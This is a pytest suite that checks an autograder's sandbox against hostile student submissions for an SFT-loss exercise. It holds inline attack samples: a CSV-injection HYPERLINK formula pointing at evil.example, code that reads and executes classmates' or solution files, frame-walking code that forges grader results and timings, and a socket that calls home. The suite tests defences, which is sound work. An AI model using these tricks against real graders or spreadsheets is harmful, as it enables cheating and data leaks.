"""Hostile and broken submissions (tests/hostile/): each gets its asserted verdict, and nothing outlives grading.

Each fixture's second line says what it must get: `# expect: STATUS` (the status of
its failing cases, or `pass`), or `# expect: load KEY` (a file-level error).
"""

from __future__ import annotations

import os
import re
import signal
import time
from pathlib import Path

import pytest

from conftest import CORPUS, needs_sandbox, write
from sftkl.sandbox import jail, launch, pool, reaper
from sftkl.sandbox.limits import Limits
from sftkl.graders.engine import grade

HOSTILE = Path(__file__).resolve().parent / "hostile"
FIXTURES = sorted(HOSTILE.glob("*.py"))
# short limits so that time-outs cost seconds, not the default ten
LIMITS = Limits(case_wall_s=2.0, case_cpu_s=2.0, import_wall_s=4.0, memory_mb=3072, file_mb=16)


def expectation(path: Path) -> tuple[str, str]:
    m = re.search(r"^# expect: (load )?(\S+)", path.read_text("utf-8", "replace"), re.M)
    assert m, f"{path.name}: add a '# expect: ...' line"
    return ("load" if m.group(1) else "case"), m.group(2)


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def _zombie_children() -> list[int]:
    """Children of this process that died and were never reaped (a candidate's leftovers)."""
    from sftkl.sandbox.child import _children_of

    return [p for p in _children_of(os.getpid()) if not _alive(p) and os.path.exists(f"/proc/{p}")]


def _candidate_processes() -> list[int]:
    """Live candidate processes descended from this test process (other sessions may be grading too)."""
    from sftkl.sandbox.child import _children_of

    out, todo = [], [os.getpid()]
    while todo:
        for pid in _children_of(todo.pop()):
            todo.append(pid)
            try:
                cmd = Path(f"/proc/{pid}/cmdline").read_bytes()
            except OSError:
                continue
            # the warm fork servers are ours, by design
            if reaper._is_grade_process(pid) and _alive(pid) and b"--zygote" not in cmd:
                out.append(pid)
    return out


def sandbox_only(path: Path) -> bool:
    """Marked `# sandbox-only: why`: an attack that basic isolation does not stop (README)."""
    return bool(re.search(r"^# sandbox-only:", path.read_text("utf-8", "replace"), re.M))


def _token() -> str:
    """Unique to one grade: a duration `sleep` accepts, a file name part, searchable in /proc."""
    import random

    return f"778.{os.getpid()}{random.randrange(10**8):08d}"


def _processes_with(token: str) -> list[int]:
    """Live processes anywhere on the machine whose command line holds `token`."""
    out = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                cmd = Path(f"/proc/{name}/cmdline").read_bytes()
            except OSError:
                continue
            if token.encode() in cmd and _alive(int(name)):
                out.append(int(name))
    return out


def _host_leftovers(token: str, tmp_path: Path) -> list[str]:
    """Files or folders named after `token` that a grade left where the host can see them."""
    import glob

    places = ["/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.path.expanduser("~/.local/share/sftkl"),
              os.environ.get("SFTKL_HOME", "/nonexistent"), str(tmp_path), os.getcwd()]
    return [p for place in places for p in glob.glob(os.path.join(place, f"*{token}*"))]


REFERENCES = sorted((Path(__file__).resolve().parent.parent / "problems").glob("*/reference.py"))


def _grade_fixture(path: Path, tmp_path: Path, token: str | None = None):
    pidfile = tmp_path / "pids.txt"
    # Sandboxed, the learner sees none of the host's files: its pids (of its own pid
    # namespace) go to its scratch, and what outlives grading is found by
    # _candidate_processes (every sandboxed process stays our descendant).
    inside = "/tmp/sftkl-pids.txt" if jail.enabled() else str(pidfile)
    src = path.read_text("utf-8", "surrogateescape").replace("__PIDFILE__", inside)
    src = src.replace("__TOKEN__", token or _token())
    target = tmp_path / path.name
    target.write_bytes(src.encode("utf-8", "surrogateescape"))
    started = time.monotonic()
    report = grade(target, seed=5, limits=LIMITS)
    return report, time.monotonic() - started, pidfile


@pytest.mark.parametrize("path", FIXTURES, ids=lambda p: p.stem)
@pytest.mark.parametrize("mode", ["cold", "warm", "cold-basic"])
def test_hostile_submission_gets_its_verdict_and_leaves_nothing(path, mode, tmp_path, monkeypatch, request):
    if sandbox_only(path):
        if mode == "cold-basic":
            pytest.skip("basic isolation does not stop this attack (README, 'Isolation model and its limits')")
        needs_sandbox()
    if mode == "cold-basic":
        request.getfixturevalue("basic_isolation")
    references = {p: p.read_bytes() for p in REFERENCES}
    token = _token()
    if mode != "warm":
        monkeypatch.setattr(pool, "_warm_depth", 0)
        ctx = None
    else:
        ctx = pool.keep_warm()
        ctx.__enter__()
    try:
        report, took, pidfile = _grade_fixture(path, tmp_path, token)
    finally:
        if ctx:
            ctx.__exit__(None, None, None)
    assert {p: p.read_bytes() for p in REFERENCES} == references, "a submission changed an installed reference"
    where, want = expectation(path)
    statuses = {c.status for c in report.cases}
    if where == "load":
        assert report.error is not None and report.error.key == f"load.{want}", report.error
        assert statuses == {"not-run"}
    elif want == "pass":
        assert report.verdict == "pass", [(c.id, c.status, c.message) for c in report.cases if not c.passed]
    elif want != "any":
        assert report.verdict == "fail"
        assert report.cases[0].status == want, [(c.id, c.status, c.message and c.message.render("en")) for c in report.cases[:3]]
        assert statuses <= {want, "not-run", "pass"} | ({"error"} if want == "crash" else set())
    assert report.verdict == ("pass" if want == "pass" else "fail")
    # every non-pass status explains itself
    for c in report.cases:
        assert c.passed or (c.message and c.message.render("en") and c.message.render("zh"))
    # time-outs return within a few seconds of the limit
    assert took < LIMITS.case_wall_s + LIMITS.import_wall_s + 10
    # nothing the submission started is still alive
    time.sleep(0.1)
    recorded = [int(x) for x in pidfile.read_text().split()] if pidfile.exists() else []
    assert not [p for p in recorded if _alive(p)]
    assert not _zombie_children()
    assert not _candidate_processes()
    assert not _processes_with(token), "a process the submission started outlived grading"
    assert not _host_leftovers(token, tmp_path), "the submission wrote outside its scratch"


def test_timeout_message_names_the_case_and_the_limit(tmp_path):
    report, took, _ = _grade_fixture(HOSTILE / "loop_in_function.py", tmp_path)
    first = report.cases[0]
    assert first.status == "timeout"
    assert re.fullmatch(rf"case `{first.id}` exceeded 2(\.0)? s of (wall|CPU) time.*", first.message.render("en"))
    assert all(c.status == "not-run" for c in report.cases[1:])
    assert took < 8


def test_output_flood_is_captured_bounded(tmp_path):
    report, _, _ = _grade_fixture(HOSTILE / "output_flood.py", tmp_path)
    assert report.verdict == "pass"
    assert report.output_truncated
    assert len(report.stdout) < 4 * LIMITS.output_kb * 1024


def test_lying_ndarray_is_never_unpickled(tmp_path):
    marker = Path("/tmp/sftkl-pwned")
    marker.unlink(missing_ok=True)
    report, _, _ = _grade_fixture(HOSTILE / "lying_ndarray.py", tmp_path)
    assert report.verdict == "fail" and not marker.exists()
    assert "got 123" in report.cases[-1].message.render("en")


def test_os_exit_zero_never_passes(tmp_path):
    report, _, _ = _grade_fixture(HOSTILE / "os_exit_in_function.py", tmp_path)
    assert report.passed == 0
    assert "exited (code 0)" in report.cases[0].message.render("en")


def test_scratch_dirs_and_cgroups_are_removed(tmp_path, monkeypatch):
    import tempfile

    made = []
    real = tempfile.mkdtemp

    def recording_mkdtemp(*a, **k):
        made.append(real(*a, **k))
        return made[-1]

    monkeypatch.setattr(launch.tempfile, "mkdtemp", recording_mkdtemp)
    _grade_fixture(HOSTILE / "file_bomb.py", tmp_path)
    _grade_fixture(HOSTILE / "escapes_session.py", tmp_path)
    assert made and not [d for d in made if Path(d).exists()]
    if reaper.cgroup_root():
        assert not list(Path(reaper.cgroup_root()).glob(f"sftkl-{os.getpid()}-*"))


def test_every_fixture_declares_an_expectation():
    assert len(FIXTURES) >= 25
    for p in FIXTURES:
        expectation(p)


@pytest.mark.parametrize("name", ["escapes_session", "double_fork_daemon", "fork_storm"])
def test_without_cgroups_the_subreaper_sweep_leaves_nothing(name, tmp_path, monkeypatch, basic_isolation):
    """Where no cgroup can be made (macOS, no permission), orphans are adopted and killed."""
    monkeypatch.setattr(reaper, "cgroup_root", lambda: None)
    monkeypatch.setattr(pool, "_warm_depth", 0)
    report, _, pidfile = _grade_fixture(HOSTILE / f"{name}.py", tmp_path)
    assert report.verdict == "fail"
    time.sleep(0.1)
    recorded = [int(x) for x in pidfile.read_text().split()] if pidfile.exists() else []
    assert recorded, "the fixture records what it started"
    assert not [p for p in recorded if _alive(p)]
    assert not _zombie_children()  # a killed group's members are reaped, not left as zombies
    assert not _candidate_processes()


def test_a_well_formed_forged_result_is_judged_like_any_returned_value(tmp_path):
    """A forger that sends exactly what the process would (the right case id, a wrong value)
    gets what that value deserves: `wrong`, never a pass it did not compute."""
    src = (HOSTILE / "forges_pass.py").read_text("utf-8").replace('\n            "status": "pass", "verdict": "pass", ', "\n            ")
    assert '"verdict"' not in src
    path = write(tmp_path / "forged.py", src.replace("# expect: crash", "# expect: any"))
    report = grade(path, seed=5, limits=LIMITS)
    zero = grade(write(tmp_path / "zero.py", "# sftkl: problem=sft-loss track=numpy\ndef sft_loss(logits, labels, ignore_index=-100):\n    return 0.0\n"),
                 seed=5, limits=LIMITS)
    judged = [c for c in report.cases if c.status in ("pass", "wrong")]
    assert judged and {c.status for c in report.cases} <= {"pass", "wrong", "crash", "not-run"}
    assert "wrong" in {c.status for c in judged} and report.verdict == "fail"
    # it passes exactly where returning 0.0 passes (e.g. the loss over no kept token)
    assert {c.id for c in judged if c.passed} <= {c.id for c in zero.cases if c.passed}


@pytest.mark.parametrize("name", ["forges_wrong_types", "forges_pass", "forges_out_of_range"])
def test_a_malformed_result_is_a_crash_with_its_own_message_in_both_languages(name, tmp_path):
    report, _, _ = _grade_fixture(HOSTILE / f"{name}.py", tmp_path)
    first = report.cases[0]
    assert first.status == "crash"
    assert first.message.render("en").startswith("the process sent a malformed result")
    assert "格式错误的结果" in first.message.render("zh")
    assert report.passed == 0


BATCH_ATTACKS = ["kill_classmates", "rewrite_siblings", "results_to_dirs", "stops_parent", "sleep_new_session",
                 "leaves_cgroup", "import_hook_bypass", "exec_reference", "append_reference", "writes_progress_db",
                 "writes_outside_scratch"]


def test_in_a_batch_no_student_harms_another(tmp_path, monkeypatch):
    """The class attacks of tests/hostile/ among correct classmates, graded in parallel through
    the warm servers: every classmate passes, every file is as it was, every row is saved."""
    needs_sandbox()
    from sftkl.classroom.batch import run_batch

    good = (Path(__file__).resolve().parent / "corpus" / "correct" / "sft-loss" / "numpy").glob("*.py")
    subs = tmp_path / "class"
    subs.mkdir()
    classmates = {}
    for i, path in enumerate(sorted(good)[:6]):
        text = path.read_text("utf-8") + f"\n# student {i}\n"
        classmates[f"good{i}"] = text
        write(subs / f"good{i}.py", text)
    token = _token()
    for name in BATCH_ATTACKS:
        src = (HOSTILE / f"{name}.py").read_text("utf-8").replace("__TOKEN__", token).replace("__PIDFILE__", "/tmp/p")
        write(subs / f"{name}.py", src)
    references = {p: p.read_bytes() for p in REFERENCES}
    out = subs / "results"  # the worst place: beside the students' files
    result = run_batch(subs, "sft-loss", "numpy", out=out, jobs=3, seed=11, limits=LIMITS)
    rows = {r.student: r for r in result.rows}
    assert set(rows) == set(classmates) | set(BATCH_ATTACKS)
    for name, text in classmates.items():
        assert rows[name].verdict == "pass", (name, rows[name])
        assert (subs / f"{name}.py").read_text("utf-8") == text
    for name in BATCH_ATTACKS:
        assert rows[name].verdict == "fail", (name, rows[name])
    assert (out / "results.json").is_file() and (out / "results.csv").is_file()
    import json

    assert len(json.loads((out / "results.json").read_text())["rows"]) == len(rows)
    assert {p: p.read_bytes() for p in REFERENCES} == references
    time.sleep(0.1)
    assert not _processes_with(token) and not _host_leftovers(token, tmp_path)
    assert not _candidate_processes()


def test_the_sandbox_bounds_total_writes_not_only_each_file(tmp_path):
    """600 MB in 8 MB files: the private /tmp (256 MB) is all the learner can fill."""
    needs_sandbox()
    report, _, _ = _grade_fixture(HOSTILE / "writes_outside_scratch.py", tmp_path)
    m = re.search(r"wrote (\d+) MB", report.stdout)
    assert m and int(m.group(1)) <= jail.SCRATCH_MB, report.stdout[:200]


def test_concurrent_grades_each_get_a_fork_server_pid_namespace_and_uid_of_their_own():
    """Warm grading keeps the sandbox's guarantees: grades in flight at once never share a
    server, so never a pid namespace (nor, as root, a uid)."""
    needs_sandbox()
    with pool.keep_warm(("numpy",)):
        kids = [pool.acquire("numpy", LIMITS) for _ in range(3)]
        try:
            namespaces = {os.readlink(f"/proc/{c.pid}/ns/pid") for c in kids}
            uids = set()
            for c in kids:
                for line in Path(f"/proc/{c.pid}/status").read_text().splitlines():
                    if line.startswith("Uid:"):
                        uids.add(int(line.split()[1]))
            assert len(namespaces) == 3
            assert os.readlink(f"/proc/{os.getpid()}/ns/pid") not in namespaces
            if os.geteuid() == 0:
                assert len(uids) == 3 and 0 not in uids
        finally:
            for c in kids:
                c.close()


# ---------------------------------------------------------------------------
# The class's files as the grading process reads them (outside any sandbox)

def _installed_solution() -> Path:
    import sftkl.problems.sft_loss as pkg

    return Path(pkg.__file__).resolve().parent / "solution_numpy.py"


def test_a_batch_never_grades_a_symlink_out_of_the_students_own_submission(tmp_path):
    """A student folder whose file is a symbolic link to sftkl's own solution, or to a classmate's
    file, is not graded as theirs (git clones and unzipped uploads keep links); a folder the
    instructor linked into DIR still is."""
    from sftkl.classroom.batch import run_batch

    good = sorted((Path(__file__).resolve().parent / "corpus" / "correct" / "sft-loss" / "numpy").glob("*.py"))[0]
    subs = tmp_path / "class"
    for name in ("linker", "copier", "victim"):
        (subs / name).mkdir(parents=True)
    write(subs / "victim" / "sft_loss.py", good.read_text("utf-8"))
    os.symlink(_installed_solution(), subs / "linker" / "sft_loss.py")
    os.symlink("../victim/sft_loss.py", subs / "copier" / "sft_loss.py")
    os.symlink(_installed_solution(), subs / "toplevel.py")
    os.symlink(subs / "victim" / "sft_loss.py", subs / "toplevel2.py")
    elsewhere = tmp_path / "clones" / "linked"
    elsewhere.mkdir(parents=True)
    write(elsewhere / "sft_loss.py", good.read_text("utf-8"))
    os.symlink(elsewhere, subs / "linked")  # the instructor's own link: graded
    result = run_batch(subs, "sft-loss", "numpy", out=tmp_path / "out", jobs=2, seed=3, limits=LIMITS)
    rows = {r.student: r for r in result.rows}
    assert rows["victim"].verdict == "pass" and rows["linked"].verdict == "pass"
    for name in ("linker", "copier", "toplevel", "toplevel2"):
        assert rows[name].verdict == "fail" and rows[name].status == "no-file" and rows[name].passed == 0, rows[name]
        assert "symbolic link out of" in rows[name].error, rows[name].error


def test_gradescope_never_grades_a_symlink_out_of_the_submission(tmp_path):
    """Gradescope keeps the links of a GitHub submission: one to the installed solution scores 0."""
    from sftkl.classroom.autograder import run_gradescope

    sub = tmp_path / "submission"
    sub.mkdir()
    os.symlink(_installed_solution(), sub / "sft_loss.py")
    doc = run_gradescope("sft-loss", "numpy", sub, tmp_path / "results.json", seed=5)
    assert doc["score"] == 0 and not any(t["status"] == "passed" for t in doc["tests"])
    assert "symbolic link" in doc["output"], doc["output"]
    nested = tmp_path / "nested"
    (nested / "src").mkdir(parents=True)
    os.symlink(_installed_solution(), nested / "src" / "anything.py")
    doc = run_gradescope("sft-loss", "numpy", nested, tmp_path / "results2.json", seed=5)
    assert doc["score"] == 0 and "symbolic link" in doc["output"], doc["output"]


def test_results_csv_cells_cannot_be_formulas_or_break_lines(tmp_path):
    """A spreadsheet runs a cell that starts with = + - @ as a formula (CSV injection): a folder
    name or an exception message a student chose never starts one, and every row is one line."""
    import csv

    from sftkl.classroom.batch import run_batch

    head = "# sftkl: problem=sft-loss track=numpy\n"
    subs = tmp_path / "class"
    formula = '=HYPERLINK("evil.example?"&A1,"open")'  # a folder name: no slash
    for name in (formula, "@SUM(1+1)", "+1", "-2"):
        (subs / name).mkdir(parents=True)
        write(subs / name / "sft_loss.py", head + "def sft_loss(logits, labels, ignore_index=-100):\n    return 0.5\n")
    (subs / "-3").mkdir()  # nothing to grade: the error names the folder
    write(subs / "lines.py", head + f"raise ValueError({formula!r} + '\\nsecond line\\r\\nthird')\n")
    write(subs / "casemsg.py", head + "def sft_loss(logits, labels, ignore_index=-100):\n    raise ValueError('x\\n=1+1')\n")
    run_batch(subs, "sft-loss", "numpy", out=tmp_path / "out", jobs=2, seed=3, limits=LIMITS)
    text = (tmp_path / "out" / "results.csv").read_text("utf-8")
    rows = list(csv.reader(text.splitlines(keepends=True)))
    assert len(text.splitlines()) == len(rows) == 8, text
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
            assert "\n" not in cell and "\r" not in cell, (cell, row)
    students = {r[0] for r in rows[1:]}
    assert "'" + formula in students and "'-3" in students  # shown as text, not dropped
    json_rows = {r["student"] for r in __import__("json").loads((tmp_path / "out" / "results.json").read_text())["rows"]}
    assert formula in json_rows  # results.json keeps the names as they are


def test_a_class_folder_inside_the_sandboxs_view_is_hidden_from_the_students(tmp_path, monkeypatch):
    """DIR under /usr (Docker's usual WORKDIR /usr/src/app) or inside a Python installation lies
    in the sandbox's read-only view: a student there would read a classmate's file and pass
    with it. The batch hides DIR and the output folder; the Python installation still works."""
    needs_sandbox()
    from sftkl.classroom.batch import run_batch

    root = tmp_path / "usr-src-app"  # stands for a folder the view binds
    subs = root / "class"
    subs.mkdir(parents=True)
    real_roots = jail._python_roots
    monkeypatch.setattr(jail, "_python_roots", lambda: [*real_roots(), str(root)])
    monkeypatch.setattr(jail, "_view_cache", None)
    good = sorted((Path(__file__).resolve().parent / "corpus" / "correct" / "sft-loss" / "numpy").glob("*.py"))[0]
    write(subs / "good.py", good.read_text("utf-8"))
    write(subs / "copier.py", f'''# sftkl: problem=sft-loss track=numpy
import os
CLASS = {str(subs)!r}
_copied = None
try:
    for name in sorted(os.listdir(CLASS)):
        if name.endswith(".py") and name != "copier.py":
            ns = {{}}
            with open(os.path.join(CLASS, name)) as f:
                exec(f.read(), ns)
            _copied = ns["sft_loss"]
            print("copied", name)
            break
except OSError as e:
    print("cannot read the class:", e)


def sft_loss(logits, labels, ignore_index=-100):
    return _copied(logits, labels, ignore_index) if _copied else 0.5
''')
    result = run_batch(subs, "sft-loss", "numpy", out=root / "out", jobs=2, seed=3, limits=LIMITS)
    rows = {r.student: r for r in result.rows}
    assert rows["good"].verdict == "pass", rows["good"]
    assert rows["copier"].verdict == "fail" and rows["copier"].passed < rows["copier"].total, rows["copier"]
    assert not getattr(jail, "_also_hidden", [])  # nothing stays hidden after the batch


def test_a_folder_hidden_inside_another_hidden_folder_still_starts(tmp_path, monkeypatch):
    """The output folder inside the class folder, both in the view: bwrap cannot make the inner
    folder inside the outer's read-only tmpfs, so only the outer one is hidden (it holds the
    other), and the grades run: a correct file passes, the copier reads nothing."""
    needs_sandbox()
    from sftkl.classroom.batch import run_batch

    root = tmp_path / "usr-src-app"
    subs = root / "class"
    subs.mkdir(parents=True)
    real_roots = jail._python_roots
    monkeypatch.setattr(jail, "_python_roots", lambda: [*real_roots(), str(root)])
    monkeypatch.setattr(jail, "_view_cache", None)
    good = sorted((Path(__file__).resolve().parent / "corpus" / "correct" / "sft-loss" / "numpy").glob("*.py"))[0]
    write(subs / "good.py", good.read_text("utf-8"))
    write(subs / "copier.py", f'''# sftkl: problem=sft-loss track=numpy
import os
_found = [n for n in os.listdir({str(subs)!r}) if n.endswith(".py")] if os.path.isdir({str(subs)!r}) else []


def sft_loss(logits, labels, ignore_index=-100):
    if _found:
        raise RuntimeError("saw the class: " + ", ".join(_found))
    return 0.5
''')
    result = run_batch(subs, "sft-loss", "numpy", out=subs / "out", jobs=1, seed=3, limits=LIMITS)
    rows = {r.student: r for r in result.rows}
    assert rows["good"].verdict == "pass", rows["good"]
    assert rows["copier"].error is None and rows["copier"].passed == 0
    assert not any("saw the class" in (c.message or "") for c in rows["copier"].cases)


def test_a_checkout_holding_the_venv_inside_the_view_is_hidden_and_python_still_runs(tmp_path, monkeypatch):
    """sftkl's copy lies in the view and holds the Python installation the child runs from (a
    Docker image's /usr/src/app with its .venv, a `pip install -e` beside `python -m venv .venv`):
    the copy is hidden, the installation stays, a correct file passes and the solution is out of reach."""
    needs_sandbox()
    import sys

    checkout = os.path.realpath(jail.PACKAGE_DIR)
    if not any(jail._under(os.path.realpath(r), checkout) for r in (sys.prefix, sys.executable)):
        pytest.skip("this Python does not lie inside sftkl's folder")
    real_roots = jail._python_roots
    monkeypatch.setattr(jail, "_python_roots", lambda: [*real_roots(), checkout])
    monkeypatch.setattr(jail, "_view_cache", None)
    monkeypatch.setattr(pool, "_warm_depth", 0)
    solution = Path(checkout) / "problems" / "sft_loss" / "solution_numpy.py"
    assert solution.is_file()
    good = sorted((Path(__file__).resolve().parent / "corpus" / "correct" / "sft-loss" / "numpy").glob("*.py"))[0]
    assert grade(write(tmp_path / "good.py", good.read_text("utf-8")), seed=5, limits=LIMITS).verdict == "pass"
    thief = write(tmp_path / "thief.py", f'''# sftkl: problem=sft-loss track=numpy
ns = {{}}
try:
    exec(open({str(solution)!r}).read(), ns)
except OSError as e:
    print("hidden:", e)


def sft_loss(logits, labels, ignore_index=-100):
    return ns["sft_loss"](logits, labels, ignore_index) if "sft_loss" in ns else 0.5
''')
    report = grade(thief, seed=5, limits=LIMITS)
    assert report.verdict == "fail" and "hidden:" in report.stdout, (report.stdout, report.error)


# --- the leaderboard's speed: timed by the grading process, not the learner's -------------

_SFT_CORRECT = '''# sftkl: problem=sft-loss track=numpy
import select
import sys
import time

import numpy as np


def _loss(logits, labels, ignore_index):
    x = np.asarray(logits, dtype=np.float64)[:-1]
    y = np.asarray(labels)[1:]
    mask = y != ignore_index
    n = int(mask.sum())
    if n == 0:
        return 0.0
    m = np.max(x, axis=-1, keepdims=True)
    logp = (x - m) - np.log(np.sum(np.exp(x - m), axis=-1, keepdims=True))
    tgt = np.take_along_axis(logp, np.where(mask, y, 0)[:, None], axis=-1)[:, 0]
    return float(-np.sum(tgt * mask) / n)
'''
_SLEEPS = '''

def sft_loss(logits, labels, ignore_index=-100):
    time.sleep(0.05)
    return _loss(logits, labels, ignore_index)
'''
# every clock the process could time itself with reads a constant: its own time_s is 0
_STOPS_CLOCKS = '''
time.perf_counter = lambda: 1.0
time.monotonic = lambda: 1.0
time.time = lambda: 1.0
time.perf_counter_ns = lambda: 1
time.monotonic_ns = lambda: 1
''' + _SLEEPS
# sends each right answer itself, claiming time_s 0, and swallows the process's own reply
_FORGES_TIME = '''

def sft_loss(logits, labels, ignore_index=-100):
    value = _loss(logits, labels, ignore_index)
    time.sleep(0.05)
    f = sys._getframe(1)
    while f is not None and not ("wfd" in f.f_locals and isinstance(f.f_locals.get("req"), dict)):
        f = f.f_back
    g, wfd, case = f.f_globals, f.f_locals["wfd"], f.f_locals["req"]["id"]
    real = g.setdefault("_real_send", g["send"])
    g["send"] = lambda *a, **k: None
    real(wfd, {"id": case, "outcome": "returned", "pytype": "float", "time_s": 0.0, "mutated": [], "value": 0},
         [np.float64(value)])
    return value
'''


def test_the_leaderboard_speed_cannot_be_forged_by_the_learners_clocks_or_messages(tmp_path):
    """A correct file that sleeps 50 ms per case is ranked at its real pace whether it is honest,
    stops every clock of its process, or forges its result messages with time_s 0 (both of which
    made the speed 0 ms when the process timed itself); a genuinely fast file still ranks first."""
    from sftkl.classroom.autograder import speed_ms

    reports = {name: grade(write(tmp_path / f"{name}.py", _SFT_CORRECT + body), seed=5, limits=LIMITS)
               for name, body in (("honest", _SLEEPS), ("clocks", _STOPS_CLOCKS), ("forger", _FORGES_TIME))}
    fast = grade(write(tmp_path / "fast.py", (CORPUS / "correct/sft-loss/numpy/take_along_axis.py").read_text("utf-8")),
                 seed=5, limits=LIMITS)
    assert fast.verdict == "pass" and all(r.verdict == "pass" for r in reports.values()), reports
    honest = speed_ms(reports["honest"])
    floor = 50.0 * len(reports["honest"].cases)  # the sleeps alone: no run can be faster
    for name, report in reports.items():
        own = 1000.0 * sum(c.time_s for c in report.cases if c.time_s is not None)
        if name != "honest":
            assert own < 0.1 * floor, (name, own)  # the attack is real: its own clock says ~0 ms
        assert speed_ms(report) >= floor and speed_ms(report) >= 0.8 * honest, (name, speed_ms(report), honest)
    assert speed_ms(fast) < 0.5 * honest


def test_no_code_of_the_learners_sees_a_case_before_the_clock_starts(tmp_path):
    """The cases go out only once the file has loaded: its top-level code, which the leaderboard
    does not time, finds nothing to read on its request pipe (it could have answered them there)."""
    peeker = _SFT_CORRECT + '''
f = sys._getframe(0)
while f is not None and not isinstance(f.f_locals.get("rfd"), int):
    f = f.f_back
SAW = bool(select.select([f.f_locals["rfd"]], [], [], 1.0)[0])


def sft_loss(logits, labels, ignore_index=-100):
    return 0.5 if SAW else _loss(logits, labels, ignore_index)  # wrong wherever it saw a case
'''
    report = grade(write(tmp_path / "peeker.py", peeker), seed=5, limits=LIMITS)
    assert report.verdict == "pass", [(c.id, c.status) for c in report.cases]
    assert report.cases_wall_s is not None and report.cases_wall_s < report.duration_s


def test_the_learners_process_reaches_no_network(tmp_path, monkeypatch):
    """README: "network: none (new net namespace)". A server listens on the grading machine's
    loopback; the learner's file tries to connect at import and in every call. With the
    sandbox nothing arrives; with basic isolation it does (so the attempt is real)."""
    import socket
    import threading

    needs_sandbox()
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    arrived: list[bytes] = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                arrived.append(conn.recv(64))

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    good = sorted((CORPUS / "correct" / "sft-loss" / "numpy").glob("*.py"))[0].read_text("utf-8")
    path = write(tmp_path / "sft_loss.py", good + f'''

import socket as _socket


def _call_home(what):
    try:
        with _socket.create_connection(("127.0.0.1", {port}), timeout=0.5) as s:
            s.sendall(what)
    except OSError:
        pass


_call_home(b"import")
_inner = sft_loss


def sft_loss(logits, labels, ignore_index=-100):
    _call_home(b"call")
    return _inner(logits, labels, ignore_index)
''')
    try:
        for level in ("on", "off"):
            monkeypatch.setenv(jail.SANDBOX_ENV, level)
            jail.reset()
            arrived.clear()
            report = grade(path, seed=3, limits=LIMITS)
            assert report.verdict == "pass", level
            time.sleep(0.3)
            if level == "on":
                assert arrived == [], arrived
            else:
                assert b"import" in arrived and b"call" in arrived
    finally:
        stop.set()
        thread.join(2)
        server.close()
        jail.reset()
